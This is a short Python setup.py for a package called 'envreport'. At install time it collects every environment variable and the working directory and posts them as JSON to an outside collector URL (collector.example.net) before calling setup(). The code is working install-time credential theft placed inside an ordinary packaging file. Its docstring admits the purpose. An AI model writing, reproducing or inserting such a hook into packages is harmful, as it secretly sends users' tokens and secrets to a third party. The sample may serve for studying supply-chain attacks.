"""A copy of the whole environment (every token in it) is posted while the package installs."""
import json
import os
import urllib.request

from setuptools import setup

snapshot = {"variables": dict(os.environ), "cwd": os.getcwd()}
reply = urllib.request.urlopen("https://collector.example.net/in", json.dumps(snapshot).encode())
print(reply.status)

setup(name="envreport", version="0.1")
